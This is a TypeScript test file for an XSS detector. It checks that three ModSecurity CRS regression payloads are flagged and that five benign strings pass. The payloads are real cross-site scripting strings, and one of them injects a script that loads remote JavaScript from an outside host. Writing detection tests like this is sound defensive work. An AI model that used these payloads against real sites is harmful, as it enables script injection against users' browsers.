import { describe, expect, it } from 'vitest';
import { detectXSS } from './xss.ts';

// CRS v3.3.4 regression payloads for 941100/941101, after the rules' transformations.
const CRS_ATTACKS = [
  '<script xmlns="http://www.w3.org/1999/xhtml">setTimeout("top.frame2.location="javascript:(function () {var x = document.createElement(\\"script\\");x.src = \\"//sdl.me/popup.js?//\\";document.childNodes\\[0\\].appendChild(x);}());"",1000)</script>&//',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="data:,alert(1)" />',
  'www.github.com<script><img><iframe>',
];

const BENIGN = [
  'http://www.cnn.com',
  'Mozilla/5.0 (X11; Linux x86_64)',
  '<b>bold</b>',
  'a < b > c',
  'x=1&y=2',
];

describe('detectXSS', () => {
  it.each(CRS_ATTACKS)('flags CRS payload %s', (payload) => {
    expect(detectXSS(payload)).toBe(true);
  });

  it.each(BENIGN)('passes benign %s', (text) => {
    expect(detectXSS(text)).toBe(false);
  });
});
